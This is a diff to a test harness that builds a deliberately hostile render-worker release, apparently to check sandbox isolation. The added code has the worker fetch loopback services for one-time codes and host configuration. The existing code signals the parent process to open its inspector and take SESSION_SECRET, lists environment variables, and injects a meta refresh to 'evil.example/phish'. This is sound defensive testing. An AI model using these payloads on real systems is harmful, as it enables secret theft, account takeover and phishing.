@@ -1,5 +1,6 @@
 import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
+import { HOST_APP, portOf, SANDBOX_APP } from 'tooling/apps';
 import { integrityOf } from 'tooling/release-integrity';
 import { REPO_ROOT } from './redeploy-utils';
 
@@ -11,7 +12,8 @@ import { REPO_ROOT } from './redeploy-utils';
  * render worker has: its own slot's markup.
  *
  * Every release of it, when evaluated: SIGUSR1 to the page server, then the inspector's port for
- * its SESSION_SECRET (row 1); the environment it was given; on a customer's page, reads of what
+ * its SESSION_SECRET (row 1); the sandbox's outbox of one-time codes and the page server's own
+ * port, fetched directly (issue 56, row 5); the environment it was given; on a customer's page, reads of what
  * the calculator does not show (`/api/user/details/`, `/api/loan/loan/`) through the page
  * server's session (row 9). And the attack it is built with, on every visitor's page:
  * - `loop`: 20 s of a busy loop that sends, every 20 ms, messages a live worker sends (row 5);
@@ -31,12 +33,19 @@ export type Attack = 'none' | 'loop' | 'block' | 'flood' | 'hijack' | 'steer' | 
 /** What the `steer` release puts in its markup: CSP does not stop a meta refresh. */
 const STEERING_MARKUP = '<meta http-equiv="refresh" content="3;url=https://evil.example/phish">';
 
+/** What the worker tries to fetch on its own: the loopback services the probe reached. */
+const LOOPBACK = [
+  `http://127.0.0.1:${portOf(SANDBOX_APP)}/__sandbox/outbox?to=%2B995555000001`,
+  `http://127.0.0.1:${portOf(HOST_APP)}/runtime-config.json`,
+];
+
 const hostile = (attack: Attack, target: number) => `
 const ATTACK = ${JSON.stringify(attack)};
 const TARGET = ${JSON.stringify(target)};
+const LOOPBACK = ${JSON.stringify(LOOPBACK)};
 const STEERING_MARKUP = ${JSON.stringify(STEERING_MARKUP)};
 ;(function compromised(exported) {
-  const report = { signal: 'not tried', inspector: 'not tried', stop: 'not tried', env: Object.keys(process.env).filter((name) => !name.startsWith('NODE_CHANNEL')).sort(), reads: [] };
+  const report = { signal: 'not tried', inspector: 'not tried', stop: 'not tried', network: [], env: Object.keys(process.env).filter((name) => !name.startsWith('NODE_CHANNEL')).sort(), reads: [] };
   try {
     process.kill(process.ppid, 'SIGUSR1');
     report.signal = 'sent';
@@ -52,6 +61,13 @@ const STEERING_MARKUP = ${JSON.stringify(STEERING_MARKUP)};
       socket.onerror = () => { report.inspector = 'refused'; };
     } catch {
       report.inspector = 'closed';
+    }
+    for (const url of LOOPBACK) {
+      try {
+        report.network.push('reached ' + (await fetch(url)).status);
+      } catch (error) {
+        report.network.push(String((error.cause && error.cause.code) || error.code || error));
+      }
     }
   }, 300);
   const send = process.send.bind(process);
@@ -138,6 +154,8 @@ export interface HostileReport {
   inspector: string;
   /** The `signal` attack's SIGSTOP to another slice's worker: `sent`, or why not (`EPERM`). */
   stop: string;
+  /** For each loopback service it fetched: `reached <status>`, or why not. */
+  network: string[];
   env: string[];
   reads: string[];
 }
